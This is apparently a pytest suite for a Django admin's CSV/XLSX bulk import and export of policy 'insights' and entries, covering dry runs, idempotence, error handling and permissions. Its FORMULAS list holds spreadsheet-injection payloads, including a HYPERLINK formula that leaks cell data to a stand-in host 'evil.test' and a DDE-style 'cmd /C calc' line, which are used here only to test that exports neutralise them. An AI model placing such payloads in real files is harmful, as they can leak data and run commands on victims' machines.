"""Bulk import of insights and entries from CSV or XLSX: a dry run, then confirmation;
the same file twice changes nothing; a bad file gives a clear error and changes nothing."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
import reversion
from django.core.files.uploadedfile import SimpleUploadedFile

from initiatives.models import Entry
from tests.factories import make_insight, make_programme, make_theme
from toolkit.models import Insight

pytestmark = pytest.mark.django_db

HEADER = [
    "slug", "theme", "title_en", "title_fr", "title_es", "summary_en", "summary_fr",
    "summary_es", "body_en", "body_fr", "body_es", "tags", "status", "published_on", "source_url",
]  # fmt: skip


def insight_row(slug="green-roofs", **cells) -> dict:
    return {
        "slug": slug, "theme": "sustainability", "title_en": "Green roofs cool streets",
        "title_fr": "Les toits verts rafraîchissent les rues", "title_es": "",
        "summary_en": "Planted roofs lower summer heat.", "summary_fr": "", "summary_es": "",
        "body_en": "Roofs **matter**.", "body_fr": "", "body_es": "", "tags": "heat, roofs",
        "status": "published", "published_on": "2021-06-01", "source_url": "", **cells,
    }  # fmt: skip


def csv_file(rows: list[dict], name="insights.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=HEADER)
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(), content_type="text/csv")


def xlsx_file(rows: list[dict]) -> SimpleUploadedFile:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows:
        sheet.append([row[column] for column in HEADER])
    out = io.BytesIO()
    book.save(out)
    return SimpleUploadedFile("insights.xlsx", out.getvalue())


def dry_run(client, upload, format_index: int = 0, model="toolkit/insight"):
    return client.post(
        f"/admin/{model}/import/",
        {"resource": "0", "format": str(format_index), "import_file": upload},
    )


def confirm(client, response, model="toolkit/insight"):
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return client.post(f"/admin/{model}/process_import/", data)


def totals(response) -> dict:
    result = response.context["result"]
    return {kind: count for kind, count in result.totals.items() if count}


@pytest.fixture
def sustainability(db):
    return make_theme(title="Sustainability", slug="sustainability", position=1)


def test_a_dry_run_shows_what_would_change_and_changes_nothing(admin_client, sustainability):
    existing = make_insight(theme=sustainability, slug="existing", title="Old title")
    rows = [insight_row(), insight_row(slug="existing", title_en="New title")]
    response = dry_run(admin_client, csv_file(rows))
    assert response.status_code == 200
    assert totals(response) == {"new": 1, "update": 1}
    assert not Insight.objects.filter(slug="green-roofs").exists()
    existing.refresh_from_db()
    assert existing.title == "Old title"


def test_confirming_imports_translations_tags_and_a_version(admin_client, sustainability):
    response = confirm(admin_client, dry_run(admin_client, csv_file([insight_row()])))
    assert response.status_code == 302
    insight = Insight.objects.get(slug="green-roofs")
    assert insight.theme == sustainability
    assert insight.title_fr == "Les toits verts rafraîchissent les rues"
    assert "<strong>matter</strong>" in insight.body_html_en
    assert sorted(tag.name for tag in insight.tags.all()) == ["heat", "roofs"]
    assert reversion.models.Version.objects.get_for_object(insight).count() == 1


def test_importing_the_same_file_twice_changes_nothing(admin_client, sustainability):
    upload = lambda: csv_file([insight_row()])  # noqa: E731
    confirm(admin_client, dry_run(admin_client, upload()))
    before = Insight.objects.values().get(slug="green-roofs")

    second = dry_run(admin_client, upload())
    assert totals(second) == {"skip": 1}
    confirm(admin_client, second)
    assert Insight.objects.values().get(slug="green-roofs") == before
    insight = Insight.objects.get(slug="green-roofs")
    assert reversion.models.Version.objects.get_for_object(insight).count() == 1


def test_xlsx_works_like_csv(admin_client, sustainability):
    response = dry_run(admin_client, xlsx_file([insight_row()]), format_index=1)
    assert totals(response) == {"new": 1}
    confirm(admin_client, response)
    assert Insight.objects.filter(slug="green-roofs").exists()


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        ({"theme": "no-such-area"}, "No theme has the slug “no-such-area”."),
        ({"status": "shouting"}, "is not a valid choice"),
        ({"published_on": "yesterday"}, "Value could not be parsed"),
        ({"title_en": ""}, "This field cannot be blank"),
        ({"body_en": "nul\x00here"}, "NUL character"),
    ],
)
def test_a_bad_row_refuses_the_whole_file_with_a_clear_message(
    admin_client, sustainability, cells, message
):
    rows = [insight_row(slug="good-one"), insight_row(**cells)]
    response = dry_run(admin_client, csv_file(rows))
    assert response.status_code == 400
    assert message in response.content.decode()
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert not Insight.objects.exists()


@pytest.mark.parametrize(
    "content",
    [b"\x00\x01\x02 not a spreadsheet \xff\xfe", b"", b"just,a,header\n"],
    ids=["binary", "empty", "wrong-columns"],
)
def test_a_malformed_file_gives_a_clear_error_and_changes_nothing(admin_client, content):
    upload = SimpleUploadedFile("insights.csv", content, content_type="text/csv")
    response = dry_run(admin_client, upload)
    assert response.status_code == 400
    assert any(
        clue in response.content.decode()
        for clue in ("trying to read file", "file is empty", "No valid data to import")
    )
    assert not Insight.objects.exists()
    assert response.context.get("confirm_form") is None


def test_entries_import_with_their_programme_and_themes(admin_client, sustainability):
    make_programme(slug="metrotalks")
    header = [
        "slug",
        "programme",
        "title_en",
        "summary_en",
        "body_en",
        "date",
        "city",
        "country",
        "people",
        "external_url",
        "themes",
        "tags",
        "status",
        "published_on",
    ]
    row = [
        "a-talk",
        "metrotalks",
        "A talk",
        "About cities.",
        "Text.",
        "2021-03-04",
        "Barcelona",
        "ES",
        "",
        "",
        "sustainability",
        "talks",
        "published",
        "2021-03-05",
    ]
    out = io.StringIO()
    csv.writer(out).writerows([header, row])
    upload = SimpleUploadedFile("entries.csv", out.getvalue().encode())
    response = dry_run(admin_client, upload, model="initiatives/entry")
    assert totals(response) == {"new": 1}
    confirm(admin_client, response, model="initiatives/entry")
    entry = Entry.objects.get(slug="a-talk")
    assert list(entry.themes.all()) == [sustainability]
    assert entry.country.code == "ES"


FORMULAS = [
    '==HYPERLINK("http://evil.test/?leak="&A2,"Open")',
    '=HYPERLINK("http://x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturned",
]


def export(client, format_index: int) -> bytes:
    """Every column of every insight, as a curator would export them."""
    form = client.get("/admin/toolkit/insight/export/").content.decode()
    columns = set(re.findall(r'name="(insightresource_\w+)"', form))
    assert len(columns) > 10
    data = {"resource": "0", "format": str(format_index), **dict.fromkeys(columns, "on")}
    response = client.post("/admin/toolkit/insight/export/", data)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


@pytest.fixture
def formulas(sustainability):
    for n, title in enumerate(FORMULAS):
        make_insight(theme=sustainability, slug=f"formula-{n}", title=title, summary=title)


def test_csv_exports_neutralise_every_formula_start(admin_client, formulas):
    rows = list(csv.DictReader(io.StringIO(export(admin_client, 0).decode("utf-8-sig"))))
    cells = [value for row in rows for value in row.values() if value]
    for title in FORMULAS:
        assert "'" + title in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_exports_write_every_cell_as_text_and_no_formula(admin_client, formulas):
    book = openpyxl.load_workbook(io.BytesIO(export(admin_client, 1)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}  # text, never "f" (a formula)
    values = {cell.value for cell in cells}
    for title in FORMULAS:
        assert "'" + title.replace("\r", "\n") in values  # XML keeps no carriage return


def test_an_exported_file_imports_back_unchanged(admin_client, formulas):
    for format_index in (0, 1):
        exported = export(admin_client, format_index)
        upload = SimpleUploadedFile(["i.csv", "i.xlsx"][format_index], exported)
        confirm(admin_client, dry_run(admin_client, upload, format_index=format_index))
        titles = dict(Insight.objects.values_list("slug", "title"))
        # the apostrophes come off (a carriage return is a line break to CSV readers)
        assert [titles[f"formula-{n}"] for n in range(6)] == FORMULAS[:6]


def test_policy_officers_may_not_import_content(client, django_user_model):
    from django.contrib.auth.models import Group

    officer = django_user_model.objects.create_user("officer", password="x", is_staff=True)
    officer.groups.add(Group.objects.get(name="Policy officers"))
    client.force_login(officer)
    assert client.get("/admin/toolkit/insight/import/").status_code == 403
